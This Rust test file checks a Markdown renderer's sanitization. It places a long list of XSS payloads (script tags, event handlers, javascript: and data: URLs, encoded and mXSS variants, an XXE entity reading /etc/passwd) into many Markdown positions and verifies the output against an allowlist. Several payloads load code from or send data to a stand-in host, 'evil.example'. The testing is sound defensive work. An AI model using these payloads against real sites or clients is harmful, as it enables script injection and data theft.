//! Attacks T1, T3 and T4: every payload in every place of Markdown, streamed and whole, read back by a real HTML parser
//! and held against a list of what may stand on the page.
//!
//! The payloads are our own forms of what public cheat sheets and the CVEs of other clients describe.

use crate::page::{Page, stream};
use scraper::{Html, Node};
use url::Url;
use yourouter_core::markdown::{Stream, render};

const PAYLOADS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</script><script>1</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<IMG SRC=\"jav&#x09;ascript:alert(1);\">",
    "<image href=x onerror=1>",
    "<svg onload=alert(1)>",
    "<svg><script href=data:,alert(1) />",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><foreignObject><iframe srcdoc=x>",
    "<svg><use href=\"data:image/svg+xml,x#y\">",
    "<math><mtext><table><mglyph><style><img src onerror=alert(1)>",
    "<math href=\"javascript:alert(1)\">x</math>",
    "<iframe srcdoc=\"<script>alert(1)</script>\">",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<embed src=//evil.example/x.swf>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=//evil.example\">",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<link rel=prefetch href=//evil.example>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style=\"background:url(//evil.example)\">",
    "<div style=x:expression(alert(1))>",
    "<form action=//evil.example><input name=key><button>ok</form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video src=//evil.example/v onerror=1>",
    "<audio autoplay src=//evil.example/a>",
    "<source srcset=//evil.example>",
    "<a ping=//evil.example href=x>y</a>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href=j&#97;vascript&colon;alert(1)>x</a>",
    "<marquee onstart=alert(1)>",
    "<template><script>1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<textarea></textarea><script>1</script>",
    "<title><img src=x onerror=1></title>",
    "<xmp><script>1</script></xmp>",
    "<plaintext>",
    "<!--><img src=x onerror=1>-->",
    "<!-- --!><script>1</script>",
    "<![CDATA[<script>1</script>]]>",
    "<?xml version=\"1.0\"?><x/>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM \"file:///etc/passwd\">]>",
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "\u{1}javascript:alert(1)",
    " javascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#106;avascript:alert(1)",
    "javascript://https://a.example/%0aalert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD4=",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:,x",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "\\\\evil.example\\share",
    "//evil.example/x",
    "smb://evil.example/x",
    "ms-msdt:/id",
    "ms-settings:x",
    "tauri://localhost/",
    "ipc://localhost/x",
    "asset://localhost/etc/passwd",
    "http://ipc.localhost/x",
    "blob:https://a.example/1",
    "about:blank",
    "view-source:https://a.example",
    "mailto:a@b.example?body=%0d%0abcc:c@d.example",
    "https://a.example/\" onmouseover=\"alert(1)",
    "https://a.example/' onclick='alert(1)",
    "https://a.example/><script>alert(1)</script>",
    "https://bank.example@evil.example/",
    "https://b\u{430}nk.example/",
    "https://a.example/\u{202e}gpj.exe",
    "https://evil.example/?secret=KEY",
    "https:evil.example",
    "http:\\\\evil.example",
    "x\" onerror=\"alert(1)",
    "x' onerror='alert(1)",
    "x` onerror=`alert(1)",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=1>",
    "--><script>1</script>",
    "]]><script>1</script>",
    "</code></pre></figure><script>1</script>",
    "</a><script>1</script>",
    "</title></style></textarea><svg onload=1>",
    "\" class=\"x\" id=\"y\" style=\"z",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&amp;lt;script&amp;gt;",
    "%3Cscript%3E",
    "\u{ff1c}script\u{ff1e}",
    "<\0script>alert(1)</script>",
    "<scr\0ipt>alert(1)</script>",
    "\u{feff}<script>1</script>",
    "<script\u{a0}>1</script>",
    "<x/onclick=alert(1)>y",
    "<x onclick\n=alert(1)>y",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "`;alert(1)//",
];

/// Where a payload `§` is put.
const PLACES: &[&str] = &[
    "§",
    "a § b",
    "# §",
    "- §",
    "1. [ ] §",
    "> §",
    "**§**",
    "[§](https://a.example)",
    "[x](§)",
    "[x](<§>)",
    "[x](https://a.example \"§\")",
    "![§](https://a.example/p.png)",
    "![x](§)",
    "![x](<§>)",
    "[![§](§)](§)",
    "<§>",
    "[x]\n\n[x]: §",
    "[x]\n\n[x]: <§> '§'",
    "[§]: https://a.example\n\n[§]",
    "x[^1]\n\n[^1]: §",
    "x[^§]\n\n[^§]: y",
    "```§\n§\n```",
    "```html\n§\n",
    "```js\n§",
    "    §",
    "`§`",
    "| § | b |\n|---|---|\n| § | § |",
    "<div>\n§\n</div>",
    "<!--\n§\n-->",
    "a\n§",
    "~~§~~ _§_",
];

#[test]
fn nothing_but_the_allowed_elements_reaches_the_page() {
    for place in PLACES {
        for payload in PAYLOADS {
            let source = place.replace('§', payload);
            assert_harmless(&render(&source), &source);
            let whole = stream([source.as_str()]).page.html();
            assert_eq!(whole, render(&source));
        }
    }
}

/// A tail is on the screen too: the page is read back after each character.
#[test]
fn no_half_written_payload_does_harm_either() {
    for place in PLACES {
        for (n, payload) in PAYLOADS.iter().enumerate() {
            let source = place.replace('§', payload);
            let (mut stream, mut page) = (Stream::new(), Page::default());
            for (at, c) in source.chars().enumerate() {
                stream.push(c.encode_utf8(&mut [0; 4]));
                stream.take_patch().iter().for_each(|patch| page.apply(patch));
                // The strict applier has read every patch; the slower parser reads a sample.
                if (at + n) % 8 == 0 {
                    assert_harmless(&page.html(), &source);
                }
            }
            page.apply(&stream.finish());
            assert_harmless(&page.html(), &source);
        }
    }
}

#[test]
fn nesting_without_end_stays_shallow() {
    for source in [
        "> ".repeat(5000) + "x",
        "- ".repeat(5000) + "x",
        "*a **b ".repeat(3000) + &"** *".repeat(3000),
        "[".repeat(9000) + &"](x)".repeat(9000),
    ] {
        let html = render(&source);
        let deepest = html.split('<').fold((0_i64, 0_i64), |(depth, deepest), tag| {
            let step = if tag.starts_with('/') {
                -1
            } else {
                i64::from(tag.starts_with(|c: char| c.is_alphabetic()))
            };
            (depth + step, deepest.max(depth + step))
        });
        assert!(deepest.1 < 200, "{deepest:?}");
        assert_eq!(stream([source.as_str()]).page.html(), html);
    }
}

fn assert_harmless(html: &str, source: &str) {
    let parsed = Html::parse_fragment(html);
    for node in parsed.tree.nodes() {
        match node.value() {
            Node::Element(element) => {
                for (name, value) in element.attrs() {
                    assert!(
                        is_allowed(element.name(), name, value),
                        "{name}={value:?} of {source:?}: {html}"
                    );
                }
                assert!(ELEMENTS.contains(&element.name()), "{} of {source:?}: {html}", element.name());
            }
            Node::Comment(_) | Node::Doctype(_) | Node::ProcessingInstruction(_) => {
                panic!("{source:?}: {html}")
            }
            _ => {}
        }
    }
}

/// The first three are the parser's own frame around a fragment.
const ELEMENTS: &[&str] = &[
    "html",
    "head",
    "body",
    "p",
    "h1",
    "h2",
    "h3",
    "h4",
    "h5",
    "h6",
    "ul",
    "ol",
    "li",
    "input",
    "blockquote",
    "hr",
    "strong",
    "em",
    "del",
    "code",
    "br",
    "div",
    "table",
    "thead",
    "tbody",
    "tr",
    "th",
    "td",
    "figure",
    "figcaption",
    "span",
    "pre",
    "a",
    "sup",
    "b",
];

fn is_allowed(element: &str, attribute: &str, value: &str) -> bool {
    let number = |start: &str| {
        value
            .strip_prefix(start)
            .is_some_and(|n| !n.is_empty() && n.bytes().all(|b| b.is_ascii_digit() || b == b'-'))
    };
    match (element, attribute) {
        ("p", "class") => value == "raw",
        ("ol", "start") => number(""),
        ("li", "class") => value == "task",
        ("input", "class") => value == "check",
        ("input", "type") => value == "checkbox",
        ("input", "disabled" | "checked") => value.is_empty(),
        ("div", "class") => ["tw", "fn"].contains(&value),
        ("div", "id") => number("fn-"),
        ("th", "scope") => value == "col",
        ("th" | "td", "class") => ["r", "c"].contains(&value),
        ("figure", "class") => value == "code",
        ("figcaption", "class") => value == "code-h",
        ("pre", "tabindex") => value == "0",
        ("span", "class") => {
            ["f", "u", "imgblock", "hk", "hs", "hn", "hc", "hf", "hi", "hd"].contains(&value)
        }
        ("sup", "class") => value == "fnref",
        ("a", "class") => ["img", "odd"].contains(&value),
        ("a", "rel") => value == "noreferrer noopener",
        ("a", "id") => number("fnref-"),
        ("a", "aria-label") => value.starts_with("Footnote ") || value.starts_with("Back to reference "),
        ("a", "href" | "title") if value.starts_with('#') => number("#fn-") || number("#fnref-"),
        ("a", "href" | "title") => Url::parse(value)
            .is_ok_and(|url| ["http", "https", "mailto"].contains(&url.scheme()) && url.as_str() == value),
        _ => false,
    }
}
